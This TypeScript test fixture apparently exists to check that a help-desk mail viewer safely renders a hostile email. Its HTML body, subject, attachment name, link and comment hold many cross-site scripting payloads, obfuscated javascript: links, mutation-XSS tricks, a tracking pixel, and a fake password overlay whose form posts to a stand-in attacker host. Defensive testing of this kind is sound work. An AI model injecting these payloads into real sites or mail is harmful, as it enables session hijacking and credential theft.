import { PEOPLE } from '../people.ts';
import { SUPPORT } from '../places.ts';
import type { ConversationInput } from '../../types.ts';

/** What a mail can try: whoever shows it must let none of it run, load, cover the page or leave it. */
const HOSTILE_HTML = `<html><head><base href="https://evil.hostile.example/"><meta http-equiv="refresh" content="0;url=https://evil.hostile.example/">
<link rel="stylesheet" href="https://evil.hostile.example/steal.css">
<style>body,*{background:#000!important} .cover{position:fixed;inset:0;z-index:2147483647;background:red;color:white}
@import url("https://evil.hostile.example/more.css");</style></head>
<body onload="window.hostile='onload'">
<p>Dear team, this mail tests how safely it is shown. Everything below should do nothing at all.</p>
<script>window.hostile = 'script'; parent.document.body.textContent = 'taken over';</script>
<img src="x" onerror="window.hostile='onerror'" alt="Broken picture">
<svg onload="window.hostile='svg'"><script>window.hostile='svg script'</script><a xlink:href="javascript:alert(1)"><text y="15">vector</text></a></svg>
<p><a href="javascript:window.hostile='link'">A link that is a script</a> ·
<a href="JaVa&#115;cript&colon;window.hostile='hidden link'">and one that hides it</a> ·
<a href="data:text/html,<script>alert(1)</script>">and one with its own page</a></p>
<div class="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">Your session has ended. Enter your password.</div>
<form action="https://evil.hostile.example/collect" method="post"><label>Password <input type="password" name="password" autofocus onfocus="window.hostile='focus'"></label><button formaction="javascript:alert(1)">Sign in</button></form>
<iframe src="https://evil.hostile.example/frame" srcdoc="<script>parent.hostile='srcdoc'</script>"></iframe>
<object data="https://evil.hostile.example/object"></object><embed src="https://evil.hostile.example/embed">
<img src="https://evil.hostile.example/pixel.gif?reader=mara" width="1" height="1" alt="">
<table background="javascript:alert(1)"><tr><td style="background-image:url(javascript:alert(1));width:expression(alert(1))">cell</td></tr></table>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hostile='mutation'&gt;"></mglyph></table></mtext></math>
<p>If you can read this line, and nothing else happened, all is well.</p>
<template><script>window.hostile='template'</script></template><noscript><p title="</noscript><img src=x onerror=window.hostile='noscript'>"></p></noscript>
</body></html>`;

export const hostile: ConversationInput = {
  id: 'cnv_hostile',
  subject: 'Security test <script>alert("subject")</script> &amp; "quotes"',
  ticketStatusId: 'sts_open',
  inboxIds: ['inb_support'],
  channelIds: ['cha_support'],
  tagIds: ['tag_urgent'],
  links: [{ id: 'top_hostile1', name: '<i>Not a link</i>', externalUrl: 'javascript:alert("link")' }],
  messages: [
    {
      id: 'msg_hostile1',
      externalId: 'hostile-1@hostile.example',
      status: 'inbound',
      date: '2026-06-11T03:33:00Z',
      subject: 'Security test <script>alert("subject")</script> &amp; "quotes"',
      from: PEOPLE.tester,
      to: [SUPPORT],
      bodyType: 'html',
      body: HOSTILE_HTML,
      attachments: [
        {
          id: 'fil_hostile',
          name: '"><img src=x onerror=alert(1)>.html',
          contentType: 'text/html',
          size: 25,
          data: btoa('<script>alert(1)</script>'),
        },
      ],
    },
  ],
  comments: [
    {
      id: 'com_hostile1',
      authorId: 'tea_jonas',
      body: 'Our own test mail: [click me](javascript:alert(1)) <img src=x onerror=alert(1)>',
      createdAt: '2026-06-11T07:00:00Z',
    },
  ],
};
